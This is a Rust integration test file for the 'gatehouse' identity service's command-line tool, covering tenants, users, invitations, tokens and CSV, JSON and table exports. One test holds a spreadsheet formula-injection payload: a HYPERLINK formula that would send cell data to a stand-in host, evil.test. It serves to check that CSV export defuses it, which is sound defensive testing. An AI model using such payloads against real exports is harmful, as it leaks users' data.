//! The `gatehouse` binary itself: subcommands, their errors and exit codes,
//! and start-up failures that must stop the server with a clear message.
//! Races between two operators are run in-process, on the service behind
//! the subcommand, to have both calls in flight at once.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

/// 32 bytes in base64: the key one-shot commands seal mail with.
const TEST_KEY: &str = "a2tra2tra2tra2tra2tra2tra2tra2tra2tra2tra2s=";

fn gatehouse(db: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_gatehouse"))
        .args(args)
        .env("GATEHOUSE_DATABASE_URL", format!("sqlite:{}", db.display()))
        .env("GATEHOUSE_SECRET_KEY_FILE", db.with_file_name("secret.key"))
        .env("GATEHOUSE_SECRET_KEY", TEST_KEY)
        .env_remove("RUST_LOG")
        .env_remove("GATEHOUSE_DEMO")
        .stdin(Stdio::null())
        .output()
        .expect("run gatehouse")
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A fresh database with the demo data, made by `gatehouse demo`.
fn demo_database() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("g.db");
    assert!(gatehouse(&db, &["demo"]).status.success());
    (dir, db)
}

/// `gatehouse tenant create --slug SLUG --name SLUG --domain DOMAIN`, then `more`.
fn create_tenant(db: &Path, slug: &str, domain: &str, more: &[&str]) -> Output {
    let args = [
        "tenant", "create", "--slug", slug, "--name", slug, "--domain", domain,
    ];
    gatehouse(db, &[&args[..], more].concat())
}

/// `gatehouse tenant set-plan --slug woodgrove --plan PLAN`, then `more`.
fn set_woodgrove_plan(db: &Path, plan: &str, more: &[&str]) -> Output {
    let args = ["tenant", "set-plan", "--slug", "woodgrove", "--plan", plan];
    gatehouse(db, &[&args[..], more].concat())
}

/// `gatehouse serve` on any port, which must fail to start: what it says.
fn failed_start(db: &Path, dir: &Path) -> String {
    let key_file = dir.join("k");
    let args = ["serve", "--addr", "127.0.0.1:0", "--secret-key-file"];
    let output = gatehouse(db, &[&args[..], &[key_file.to_str().unwrap()]].concat());
    assert_eq!(output.status.code(), Some(1));
    stderr(&output)
}

async fn query_count(db: &Path, sql: &str) -> i64 {
    let pool = sqlx::SqlitePool::connect(&format!("sqlite:{}", db.display()))
        .await
        .unwrap();
    let count = sqlx::query_scalar(sql).fetch_one(&pool).await.unwrap();
    pool.close().await;
    count
}

#[tokio::test]
async fn tenant_create_makes_a_tenant_and_refuses_bad_or_taken_input() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("g.db");
    let created = create_tenant(
        &db,
        "fabrikam",
        "fabrikam.test",
        &["--plan", "premium", "--seats", "3"],
    );
    assert!(created.status.success(), "{}", stderr(&created));
    assert!(stdout(&created).contains("created tenant fabrikam"));

    let bad = create_tenant(&db, "Fab Rikam", "x.test", &[]);
    assert_eq!(bad.status.code(), Some(2));
    let message = stderr(&bad);
    assert_eq!(message.lines().count(), 1, "one line: {message}");
    assert!(message.contains("slug"), "{message}");

    let no_seats = create_tenant(&db, "x1", "x1.test", &["--plan", "premium"]);
    assert_eq!(no_seats.status.code(), Some(2));
    assert!(stderr(&no_seats).contains("seats"));

    let taken = create_tenant(&db, "fabrikam", "f2.test", &[]);
    assert_eq!(taken.status.code(), Some(1));
    assert!(stderr(&taken).contains("taken"), "{}", stderr(&taken));
    let domain_taken = create_tenant(&db, "f3", "fabrikam.test", &[]);
    assert_eq!(domain_taken.status.code(), Some(1));

    assert_eq!(
        query_count(&db, "SELECT COUNT(*) FROM tenants").await,
        1,
        "only the good one"
    );
}

#[tokio::test]
async fn set_plan_refuses_fewer_seats_than_the_guests_need() {
    let (_dir, db) = demo_database();
    // Six guests need two seats (five guests per seat).
    for i in 0..6 {
        let email = format!("g{i}@fabrikam.test");
        let invited = gatehouse(
            &db,
            &["invite", "--tenant", "woodgrove", &email, "--no-email"],
        );
        assert!(invited.status.success(), "{}", stderr(&invited));
    }

    let refused = set_woodgrove_plan(&db, "premium", &["--seats", "1"]);
    assert_eq!(refused.status.code(), Some(1));
    assert!(
        stderr(&refused).contains("at least 2 premium seats"),
        "{}",
        stderr(&refused)
    );
    let seats = "SELECT premium_seats FROM tenants WHERE slug = 'woodgrove'";
    assert_eq!(query_count(&db, seats).await, 10);

    let done = set_woodgrove_plan(&db, "premium", &["--seats", "2"]);
    assert!(done.status.success(), "{}", stderr(&done));
    assert_eq!(query_count(&db, seats).await, 2);

    // The demo's Foo requires MFA: a policy that a free tenant cannot have.
    let refused = set_woodgrove_plan(&db, "free", &[]);
    assert_eq!(refused.status.code(), Some(1));
    assert!(
        stderr(&refused).contains("Require MFA for Foo"),
        "{}",
        stderr(&refused)
    );
    // Switched off (the Policies page or the REST API would; the CLI has no
    // policy command), a free plan is fine.
    let pool = sqlx::SqlitePool::connect(&format!("sqlite:{}", db.display()))
        .await
        .expect("database");
    sqlx::query("UPDATE policies SET state = 'off'")
        .execute(&pool)
        .await
        .expect("policy off");
    pool.close().await;
    let free = set_woodgrove_plan(&db, "free", &[]);
    assert!(
        free.status.success(),
        "a free tenant may have guests: {}",
        stderr(&free)
    );

    let unknown = gatehouse(
        &db,
        &["tenant", "set-plan", "--slug", "nowhere", "--plan", "free"],
    );
    assert_eq!(unknown.status.code(), Some(1));
    assert!(stderr(&unknown).contains("not found"));
}

#[tokio::test]
async fn demo_seeds_once_and_keeps_what_exists() {
    let (_dir, db) = demo_database();
    assert!(gatehouse(&db, &["demo"]).status.success());
    assert_eq!(query_count(&db, "SELECT COUNT(*) FROM tenants").await, 2);
    assert_eq!(query_count(&db, "SELECT COUNT(*) FROM users").await, 4);
    assert_eq!(
        query_count(
            &db,
            "SELECT premium_seats FROM tenants WHERE slug = 'woodgrove' AND plan = 'premium'"
        )
        .await,
        10
    );
}

#[tokio::test]
async fn user_create_reads_the_password_from_stdin_or_prints_a_generated_one() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("g.db");
    assert!(create_tenant(&db, "fabrikam", "fabrikam.test", &[])
        .status
        .success());
    let generated = gatehouse(
        &db,
        &[
            "user",
            "create",
            "--tenant",
            "fabrikam",
            "--upn",
            "ops@fabrikam.test",
            "--name",
            "Ops",
            "--admin",
        ],
    );
    assert!(generated.status.success(), "{}", stderr(&generated));
    assert!(stdout(&generated).contains("password (shown once): "));

    let mut child = Command::new(env!("CARGO_BIN_EXE_gatehouse"))
        .args([
            "user",
            "create",
            "--tenant",
            "fabrikam",
            "--upn",
            "kim@fabrikam.test",
            "--name",
            "Kim",
            "--password-stdin",
        ])
        .env("GATEHOUSE_DATABASE_URL", format!("sqlite:{}", db.display()))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(b"a long enough password\n")
            .unwrap();
    }
    let piped = child.wait_with_output().unwrap();
    assert!(piped.status.success(), "{}", stderr(&piped));
    assert!(
        !stdout(&piped).contains("password"),
        "a given password is not echoed"
    );

    let wrong_domain = gatehouse(
        &db,
        &[
            "user",
            "create",
            "--tenant",
            "fabrikam",
            "--upn",
            "kim@contoso.test",
            "--name",
            "Kim",
        ],
    );
    assert_eq!(wrong_domain.status.code(), Some(2));
    assert!(stderr(&wrong_domain).contains("@fabrikam.test"));
    let taken = gatehouse(
        &db,
        &[
            "user",
            "create",
            "--tenant",
            "fabrikam",
            "--upn",
            "kim@fabrikam.test",
            "--name",
            "Kim",
        ],
    );
    assert_eq!(taken.status.code(), Some(1));
    assert_eq!(query_count(&db, "SELECT COUNT(*) FROM users").await, 2);
}

#[test]
fn every_subcommand_has_help() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("g.db");
    for args in [
        vec!["--help"],
        vec!["serve", "--help"],
        vec!["tenant", "create", "--help"],
        vec!["tenant", "set-plan", "--help"],
        vec!["tenant", "set", "--help"],
        vec!["user", "create", "--help"],
        vec!["users", "list", "--help"],
        vec!["demo", "--help"],
    ] {
        let output = gatehouse(&db, &args);
        assert!(output.status.success(), "{args:?}");
        assert!(stdout(&output).contains("Usage"), "{args:?}");
    }
    assert!(!db.exists(), "help touches no database");
    let unknown = gatehouse(&db, &["frobnicate"]);
    assert_eq!(unknown.status.code(), Some(2));
}

#[test]
fn a_database_path_that_cannot_be_created_stops_the_server_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let blocker = dir.path().join("not-a-folder");
    std::fs::write(&blocker, "a file where a folder should be").unwrap();
    let db = blocker.join("gatehouse.db");
    let message = failed_start(&db, dir.path());
    assert!(
        message.contains(&blocker.display().to_string()),
        "{message}"
    );
}

#[tokio::test]
async fn a_failed_migration_stops_the_server_with_a_clear_message() {
    let (dir, db) = demo_database();
    // Someone edited a migration that had landed: its checksum no longer matches.
    let pool = sqlx::SqlitePool::connect(&format!("sqlite:{}", db.display()))
        .await
        .unwrap();
    sqlx::query("UPDATE _sqlx_migrations SET checksum = x'00'")
        .execute(&pool)
        .await
        .unwrap();
    pool.close().await;
    let message = failed_start(&db, dir.path());
    assert!(message.contains("database migration failed"), "{message}");
    assert!(message.contains("modified"), "{message}");
}

#[test]
fn sigterm_stops_the_server_gracefully() {
    use std::io::{BufRead, BufReader};
    let dir = tempfile::tempdir().unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_gatehouse"))
        .args(["serve", "--addr", "127.0.0.1:0", "--log", "info"])
        // As `make run` starts it.
        .env("GATEHOUSE_DEMO", "1")
        .arg("--database-url")
        .arg(format!("sqlite:{}", dir.path().join("g.db").display()))
        .arg("--secret-key-file")
        .arg(dir.path().join("secret.key"))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut log = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    loop {
        line.clear();
        assert!(
            log.read_line(&mut line).unwrap() > 0,
            "the server exited before listening"
        );
        if line.contains("Gatehouse is listening") {
            break;
        }
    }
    let killed = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(0), "a clean exit after SIGTERM");
    let rest: Vec<String> = log.lines().map_while(Result::ok).collect();
    assert!(
        rest.iter().any(|line| line.contains("shutting down")),
        "{rest:?}"
    );
}

#[test]
fn token_create_prints_the_token_alone_on_the_last_line() {
    let (_dir, db) = demo_database();
    let output = gatehouse(
        &db,
        &[
            "token",
            "create",
            "--tenant",
            "woodgrove",
            "--name",
            "provisioning",
        ],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    let text = stdout(&output);
    let last = text.lines().last().unwrap();
    assert!(
        last.starts_with("gh_") && last.len() == 46 && !last.contains(' '),
        "{last}"
    );
    let unknown = gatehouse(&db, &["token", "create", "--tenant", "nowhere"]);
    assert_eq!(unknown.status.code(), Some(1));
}

#[tokio::test]
async fn invite_creates_the_guest_and_prints_the_redeem_url() {
    let (dir, db) = demo_database();
    let output = gatehouse(
        &db,
        &[
            "invite",
            "--tenant",
            "woodgrove",
            "bob@fabrikam.test",
            "--name",
            "Bob",
            "--no-email",
            "--public-url",
            "https://id.woodgrove.test",
        ],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(
        text.contains("bob_fabrikam.test#EXT#@woodgrove.test"),
        "{text}"
    );
    assert!(
        text.lines()
            .last()
            .unwrap()
            .starts_with("https://id.woodgrove.test/redeem?ticket="),
        "{text}"
    );

    let json = gatehouse(
        &db,
        &[
            "invite",
            "--tenant",
            "woodgrove",
            "carol@fabrikam.test",
            "--format",
            "json",
        ],
    );
    assert!(json.status.success(), "{}", stderr(&json));
    // The REST API's invitation, as Graph shapes it.
    let body: common::ApiInvitation = serde_json::from_str(&stdout(&json)).unwrap();
    assert_eq!(body.status, "PendingAcceptance");
    assert_eq!(body.invited_user_email_address, "carol@fabrikam.test");
    assert!(body
        .invite_redeem_url
        .as_deref()
        .unwrap()
        .starts_with("http://localhost:3000/redeem?ticket="));

    let keyless = Command::new(env!("CARGO_BIN_EXE_gatehouse"))
        .args(["invite", "--tenant", "woodgrove", "erin@fabrikam.test"])
        .env("GATEHOUSE_DATABASE_URL", format!("sqlite:{}", db.display()))
        .env("GATEHOUSE_SECRET_KEY_FILE", dir.path().join("missing.key"))
        .env_remove("GATEHOUSE_SECRET_KEY")
        .output()
        .unwrap();
    assert_eq!(
        keyless.status.code(),
        Some(1),
        "no key of its own: it must seal with the server's"
    );
    assert!(
        stderr(&keyless).contains("start the server once"),
        "{}",
        stderr(&keyless)
    );
    assert!(!dir.path().join("missing.key").exists());
    let bad = gatehouse(&db, &["invite", "--tenant", "woodgrove", "not-an-address"]);
    assert_eq!(bad.status.code(), Some(2));
    let twice = gatehouse(
        &db,
        &["invite", "--tenant", "woodgrove", "bob@fabrikam.test"],
    );
    assert_eq!(twice.status.code(), Some(1));
    assert!(
        stderr(&twice).contains("pending invitation"),
        "{}",
        stderr(&twice)
    );
    assert_eq!(
        query_count(&db, "SELECT COUNT(*) FROM invitations").await,
        2
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn two_simultaneous_creates_of_one_slug_make_one_tenant_and_a_conflict() {
    let app = common::spawn_app().await;
    let slugs: Vec<String> = (0..8).map(|i| format!("race-{i}")).collect();
    // Every slug twice, with different domains, all calls in flight at once.
    let app = &app;
    let creates = slugs.iter().flat_map(|slug| {
        ["a", "b"].map(|side| async move {
            app.create_tenant(slug, &format!("{slug}-{side}.test"))
                .await
        })
    });
    let outcomes = futures::future::join_all(creates).await;
    for (slug, pair) in slugs.iter().zip(outcomes.chunks(2)) {
        let created = pair.iter().filter(|outcome| outcome.is_ok()).count();
        let conflicts = pair
            .iter()
            .filter(|outcome| matches!(outcome, Err(common::wire::AppError::Conflict(_))))
            .count();
        assert_eq!((created, conflicts), (1, 1), "{slug}: {pair:?}");
    }
    let raced: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM tenants WHERE slug LIKE 'race-%'")
        .fetch_one(app.state.pool.connections())
        .await
        .unwrap();
    assert_eq!(raced, 8, "one tenant a slug");
}

#[tokio::test]
async fn tenant_set_changes_only_the_settings_given_and_refuses_a_bad_value() {
    let (_dir, db) = demo_database();
    let set = |args: &[&str]| {
        let base = ["tenant", "set", "--slug", "woodgrove"];
        gatehouse(&db, &[&base[..], args].concat())
    };
    let turned_on = set(&["--security-defaults", "on", "--invitation-ttl-days", "7"]);
    assert!(turned_on.status.success(), "{}", stderr(&turned_on));
    assert_eq!(
        stdout(&turned_on).trim(),
        "tenant woodgrove: members can invite on, e-mail one-time passcode on, \
         security defaults on, invitations valid 7 days, privacy statement Gatehouse's"
    );
    let settings = "SELECT security_defaults * 1000 + invitation_ttl_days FROM tenants \
                    WHERE slug = 'woodgrove'";
    assert_eq!(query_count(&db, settings).await, 1007);
    assert_eq!(
        query_count(
            &db,
            "SELECT COUNT(*) FROM audit_events WHERE action = 'tenant.settings_changed'"
        )
        .await,
        1
    );

    for (args, reason) in [
        (&["--invitation-ttl-days", "0"][..], "from 1 to 365 days"),
        (
            &["--security-defaults", "maybe"][..],
            "invalid value 'maybe'",
        ),
    ] {
        let refused = set(args);
        assert_ne!(refused.status.code(), Some(0), "{args:?}");
        assert!(stderr(&refused).contains(reason), "{}", stderr(&refused));
    }
    let unknown = gatehouse(
        &db,
        &["tenant", "set", "--slug", "nowhere", "--email-otp", "off"],
    );
    assert_eq!(unknown.status.code(), Some(1));
    assert!(stderr(&unknown).contains("nowhere"), "{}", stderr(&unknown));
    assert_eq!(query_count(&db, settings).await, 1007, "nothing changed");
}

/// Megan of the demo tenant gets an authenticator app on `db` (and with it
/// ten recovery codes), through the MFA services as proof-up would.
async fn give_megan_an_authenticator_app(db: &Path) {
    use app::domain::{DisplayName, TenantSlug, TotpCode, Upn};
    use app::mfa::ssr::methods::{begin_totp, confirm_totp};
    use app::mfa::ssr::totp::{code_at, TotpSecret};
    use app::ssr::state::SecretKey;
    use secrecy::ExposeSecret;

    let pool = app::ssr::db::open(&format!("sqlite:{}", db.display()))
        .await
        .unwrap();
    let mut conn = pool.acquire().await.unwrap();
    let slug = TenantSlug::parse("woodgrove").unwrap();
    let tenant = app::tenants::ssr::require_tenant(&mut conn, &slug)
        .await
        .unwrap();
    let upn = Upn::parse("megan@woodgrove.test").unwrap();
    let (megan, _) = app::users::ssr::find_credentials_by_upn(&mut conn, &upn)
        .await
        .unwrap()
        .unwrap();
    drop(conn);
    let key = SecretKey::new([7; 32]);
    let now = common::T0;
    let name = DisplayName::parse("Phone").unwrap();
    let enrolment = begin_totp(&pool, &key, &tenant, &megan, &name, now)
        .await
        .unwrap();
    let secret = TotpSecret::from_base32(enrolment.secret_text.expose_secret()).unwrap();
    let code = TotpCode::parse(&code_at(&secret, now)).unwrap();
    let actor = app::ssr::Actor::cli();
    confirm_totp(
        &pool,
        &key,
        &megan,
        &enrolment.method_id,
        &code,
        &actor,
        now,
    )
    .await
    .unwrap();
    pool.close().await;
}

#[tokio::test]
async fn users_list_prints_each_upn_with_its_method_types_as_a_table_json_or_csv() {
    let (_dir, db) = demo_database();
    let invited = gatehouse(
        &db,
        &[
            "invite",
            "--tenant",
            "woodgrove",
            "bob@fabrikam.test",
            "--no-email",
        ],
    );
    assert!(invited.status.success(), "{}", stderr(&invited));
    give_megan_an_authenticator_app(&db).await;
    let bob = "bob_fabrikam.test#EXT#@woodgrove.test";
    let list = |more: &[&str]| {
        let args = [&["users", "list", "--tenant", "woodgrove"][..], more].concat();
        let output = gatehouse(&db, &args);
        assert!(output.status.success(), "{more:?}: {}", stderr(&output));
        stdout(&output)
    };

    // Ordered by display name: bob@fabrikam.test (the guest's name is his
    // address), Megan Bowen, Woodgrove Admin.
    let table = list(&[]);
    let lines: Vec<Vec<&str>> = table
        .lines()
        .map(|line| {
            line.split("  ")
                .map(str::trim)
                .filter(|cell| !cell.is_empty())
                .collect()
        })
        .collect();
    assert_eq!(
        lines,
        [
            vec!["UserPrincipalName", "UserType", "Methods"],
            vec!["-----------------", "--------", "-------"],
            vec![bob, "Guest", "-"],
            vec!["megan@woodgrove.test", "Member", "totp, recoveryCodes"],
            vec!["admin@woodgrove.test", "Member", "-"],
        ],
        "{table}"
    );
    let with = list(&["--with-methods"]);
    assert_eq!(with.lines().count(), 3, "{with}");
    assert!(with
        .lines()
        .nth(2)
        .unwrap()
        .starts_with("megan@woodgrove.test"));
    let guests = list(&["--guests", "--without-methods"]);
    assert_eq!(
        guests.lines().skip(2).collect::<Vec<_>>().len(),
        1,
        "{guests}"
    );
    assert!(guests.contains(bob));
    let found = list(&["--search", "MEG", "--format", "text"]);
    assert!(
        found.contains("megan@woodgrove.test") && !found.contains(bob),
        "{found}"
    );

    let json: server::graph::Page<server::graph::User> =
        serde_json::from_str(&list(&["--format", "json", "--members"])).unwrap();
    assert_eq!(json.next, None);
    let upns: Vec<&str> = json
        .value
        .iter()
        .map(|user| user.user_principal_name.as_str())
        .collect();
    assert_eq!(upns, ["megan@woodgrove.test", "admin@woodgrove.test"]);
    assert_eq!(json.value[0].methods, ["totp", "recoveryCodes"]);
    let types: Vec<(&str, i64)> = json.value[0]
        .method_details
        .iter()
        .map(|method| (method.kind.as_str(), method.count))
        .collect();
    assert_eq!(types, [("totp", 1), ("recoveryCodes", 10)]);

    let csv = list(&["--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "id",
            "userPrincipalName",
            "displayName",
            "mail",
            "userType",
            "externalUserState",
            "methods",
            "totp",
            "webauthn",
            "recoveryCodes",
            "lastUsedDateTime",
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3, "{csv}");
    let fields =
        |row: &csv::StringRecord| row.iter().skip(1).map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(
        fields(&rows[0]),
        [
            bob,
            "bob@fabrikam.test",
            "bob@fabrikam.test",
            "Guest",
            "PendingAcceptance",
            "",
            "0",
            "0",
            "0",
            ""
        ]
    );
    assert_eq!(
        fields(&rows[1]),
        [
            "megan@woodgrove.test",
            "Megan Bowen",
            "megan@woodgrove.test",
            "Member",
            "",
            "totp recoveryCodes",
            "1",
            "0",
            "10",
            "2026-11-25T12:00:00Z",
        ]
    );
}

#[test]
fn a_name_a_spreadsheet_would_run_as_a_formula_is_listed_as_text_in_csv() {
    let (_dir, db) = demo_database();
    let formula = r#"=HYPERLINK("https://evil.test/?"&A1,"Open")"#;
    let invited = gatehouse(
        &db,
        &[
            "invite",
            "--tenant",
            "woodgrove",
            "eve@fabrikam.test",
            "--name",
            formula,
            "--no-email",
        ],
    );
    assert!(invited.status.success(), "{}", stderr(&invited));

    let guests = |format: &str| {
        let args = [
            "users",
            "list",
            "--tenant",
            "woodgrove",
            "--guests",
            "--format",
            format,
        ];
        let output = gatehouse(&db, &args);
        assert!(output.status.success(), "{}", stderr(&output));
        stdout(&output)
    };

    let csv = guests("csv");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let row = reader.records().next().expect("the guest").unwrap();
    assert_eq!(&row[1], "eve_fabrikam.test#EXT#@woodgrove.test");
    assert_eq!(&row[2], format!("'{formula}"), "{csv}");

    let page: server::graph::Page<server::graph::User> =
        serde_json::from_str(&guests("json")).unwrap();
    assert_eq!(page.value[0].display_name, formula, "JSON keeps the name");
}

#[test]
fn users_list_refuses_an_unknown_tenant_and_contradictory_filters() {
    let (_dir, db) = demo_database();
    let unknown = gatehouse(&db, &["users", "list", "--tenant", "fabrikam"]);
    assert_eq!(unknown.status.code(), Some(1));
    let message = stderr(&unknown);
    assert_eq!(message.lines().count(), 1, "one line: {message}");
    assert!(message.contains("fabrikam"), "{message}");
    assert!(stdout(&unknown).is_empty(), "nothing listed");

    for bad in [
        &["--tenant", "Not A Slug"][..],
        &["--tenant", "woodgrove", "--guests", "--members"],
        &[
            "--tenant",
            "woodgrove",
            "--with-methods",
            "--without-methods",
        ],
        &["--tenant", "woodgrove", "--format", "xml"],
        &["--tenant", "woodgrove", "--search", "bob\u{7}"],
    ] {
        let output = gatehouse(&db, &[&["users", "list"][..], bad].concat());
        assert_eq!(
            output.status.code(),
            Some(2),
            "{bad:?}: {}",
            stderr(&output)
        );
        assert!(stdout(&output).is_empty(), "{bad:?}");
    }
}
